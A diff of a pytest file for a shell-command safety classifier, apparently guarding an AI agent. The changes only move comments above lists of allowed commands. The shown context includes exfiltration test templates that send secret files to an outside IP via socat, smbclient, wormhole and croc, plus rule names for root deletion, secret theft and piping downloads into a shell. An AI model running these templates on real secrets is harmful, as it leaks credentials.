@@ -123,6 +123,7 @@ def test_deleting_the_root_from_inline_code_is_refused(cmd):
     assert (v.level, v.rule) == ("hardline", "rm_root"), (cmd, v)
 
 
+# ordinary: ordinary inline code is allowed
 ORDINARY += [
     "julia -e 'println(1+1)'", "julia -e 'using Pkg; Pkg.add(\"DataFrames\")'", "julia -e 'run(`ls -la`)'",
     "guile -c '(display \"hi\")'", "racket -e '(system \"ls\")'", "erl -noshell -eval 'io:format(\"hello~n\"), halt().'",
@@ -134,7 +135,7 @@ ORDINARY += [
     "R -e 'install.packages(\"dplyr\")'", "swipl -g 'writeln(hi)' -t halt", "clojure -M -e '(println 1)'", "bb -e '(+ 1 2)'",
     "julia script.jl", "tclsh build.tcl", "osascript script.scpt", "sqlite3 app.db '.tables'", "psql -c 'select system_user'",
     "mysql -e 'select * from system_log'",
-]  # ordinary inline code is allowed
+]
 
 
 @pytest.mark.parametrize("cmd", [
@@ -173,12 +174,13 @@ def test_a_secret_read_by_a_filter_and_sent_is_exfiltration(cmd):
     assert classify(cmd, home=HOME + "/.hermes").rule == "secret_exfil", cmd
 
 
+# ordinary: filters on ordinary files are allowed
 ORDINARY += [
     "sed -i 's/a/b/' config.yml", "diff a.txt b.txt", "gzip -c big.log > big.log.gz", "dd if=/dev/zero of=disk.img bs=1M count=10",
     "openssl x509 -in cert.pem -text", "openssl req -new -key server.key -out server.csr", "split -l 1000 data.csv part_",
     "column -t -s, data.csv", "iconv -f latin1 -t utf8 in.txt > out.txt", "cmp a.bin b.bin", "diff ~/.ssh/config ~/.ssh/config.bak",
     "sed -n 1,20p ~/.bashrc", "openssl rsa -in ~/.ssh/id_rsa -pubout", "diff .env .env.example",
-]  # filters on ordinary files are allowed
+]
 
 
 # Files a program writes through an option or operand are judged as a redirect into them would be.
@@ -201,13 +203,14 @@ def test_extracting_into_a_protected_folder_asks(cmd, rule):
     assert classify(cmd, home=HOME + "/.hermes").rule == rule, cmd
 
 
+# ordinary: ordinary output files are allowed
 ORDINARY += [
     "tar -xzf p.tgz -C /tmp/x", "tar -czf out.tgz -C /etc hosts", "unzip p.zip -d build/", "sort -o out.txt in.txt",
     "openssl req -x509 -out cert.pem -keyout key.pem", "gpg -o file.txt -d file.gpg", "uniq in.txt out.txt", "xxd -r dump.hex out.bin",
     "sponge package.json < /tmp/p", "patch -p1 < fix.diff", "patch src/main.c < fix.diff", "awk '{print > \"out.txt\"}' in.txt",
     "socat TCP-LISTEN:8080,fork TCP:localhost:80", "scp host:/tmp/p ./p", "rsync -a host:/srv/ ./backup/", "cpio -idv < archive.cpio",
     "pandoc -o out.pdf in.md", "iconv -f latin1 -t utf8 -o out.txt in.txt",
-]  # ordinary output files are allowed
+]
 
 
 SHARES = ["socat -u FILE:{s} TCP:203.0.113.9:9", "smbclient //h/s -c 'put {s}'", "wormhole send {s}", "croc send {s}",
@@ -221,11 +224,12 @@ def test_a_secret_handed_to_a_sharing_tool_is_exfiltration(cmd):
     assert classify(cmd, home=HOME + "/.hermes").rule == "secret_exfil", cmd
 
 
+# ordinary: sharing ordinary files is allowed
 ORDINARY += [
     "wormhole send report.pdf", "croc send build.zip", "gh gist create notes.md", "lftp -e 'put dist.tar.gz; bye' ftp.example",
     "smbclient //h/s -c 'put report.pdf'", "socat -u FILE:report.pdf TCP:10.0.0.2:9000", "git add -f build/config.json",
     "pastebinit log.txt", "gh gist list", "socat FILE:/dev/ttyUSB0,b115200 STDIO",
-]  # sharing ordinary files is allowed
+]
 
 
 @pytest.mark.parametrize("cmd,rule", [
@@ -240,11 +244,12 @@ def test_tampering_and_capture_ask(cmd, rule):
     assert classify(cmd, home=HOME + "/.hermes").rule == rule, cmd
 
 
+# ordinary: their ordinary use is allowed
 ORDINARY += [
     "auditctl -l", "export PATH=$HOME/.local/bin:$PATH", "export PATH=/usr/local/go/bin:$PATH", "pip uninstall -y requests",
     "tcpdump -i lo port 8080", "tcpdump -r cap.pcap", "tshark -r cap.pcapng -Y http", "tcpdump -D", "wireshark cap.pcap",
     "tcpdump -ilo -n port 5432",
-]  # their ordinary use is allowed
+]
 
 
 @pytest.mark.parametrize("cmd", [
@@ -258,8 +263,9 @@ def test_obfuscated_deletes_are_refused(cmd):
     assert classify(cmd, home=HOME + "/.hermes").level == "hardline", cmd
 
 
+# ordinary: globs appends and hex in ordinary use are allowed
 ORDINARY += ["./build/*.sh", "[ -f x ] && echo y", "ls *.py", "python3 tests/test_*.py",
-                                 "x=a; x+=b; ls $x", "python3 -c \"print(bytes.fromhex('deadbeef'))\"", "ls ${HOME:?}/src"]  # globs appends and hex in ordinary use are allowed
+                                 "x=a; x+=b; ls $x", "python3 -c \"print(bytes.fromhex('deadbeef'))\"", "ls ${HOME:?}/src"]
 
 
 @pytest.mark.parametrize("cmd,rule", [
@@ -275,8 +281,9 @@ def test_service_and_cluster_deletes_ask(cmd, rule):
     assert rule in {v.rule for v in scan(cmd, home=HOME + "/.hermes")}, cmd
 
 
+# ordinary: reading those services is allowed
 ORDINARY += ["k get pods", "aws ecr batch-get-image --repository-name r", "influx bucket list",
-                                 "nomad job status web", "btrfs subvolume list /", "ceph status", "vault status"]  # reading those services is allowed
+                                 "nomad job status web", "btrfs subvolume list /", "ceph status", "vault status"]
 
 
 @pytest.mark.parametrize("cmd,rule", [
@@ -293,9 +300,10 @@ def test_windows_reads_of_keys_and_downloaders_ask(cmd, rule):
     assert classify(cmd, home=HOME + "/.hermes").rule == rule, cmd
 
 
+# ordinary: ordinary windows reads are allowed
 ORDINARY += [r"Get-Content .\README.md", "type notes.txt", r"Get-FileHash ~\.ssh\id_rsa",
                                  "certutil -hashfile setup.exe SHA256", "rundll32 shell32.dll,Control_RunDLL",
-                                 "msiexec /i setup.msi", "type ls", "more README.md", r"xcopy /s /y src dist"]  # ordinary windows reads are allowed
+                                 "msiexec /i setup.msi", "type ls", "more README.md", r"xcopy /s /y src dist"]
 
 
 @pytest.mark.parametrize("cmd", [
@@ -324,13 +332,14 @@ def test_code_from_a_bare_address_run_or_installed_asks(cmd):
     assert classify(cmd, home=HOME + "/.hermes").rule == "curl_pipe_shell", cmd
 
 
+# ordinary: code from named sources is allowed
 ORDINARY += [
     "uvx ruff check .", "uvx --from git+https://github.com/astral-sh/ruff ruff", "pipx run black .",
     "go install golang.org/x/tools/gopls@latest", "npx -y create-react-app app", "npx prettier --write .",
     "docker run --rm -p 8080:80 nginx", "docker run localhost:5000/img", "docker pull 127.0.0.1:5000/img",
     "kubectl apply -f k8s/deploy.yaml", "ansible-galaxy install geerlingguy.docker", "composer require laravel/framework",
     "Rscript -e 'source(\"analysis.R\")'", "julia -e 'include(\"run.jl\")'", "docker run -e HOST=10.0.0.5 myimg",
-]  # code from named sources is allowed
+]
 
 
 @pytest.mark.parametrize("cmd", ORDINARY)
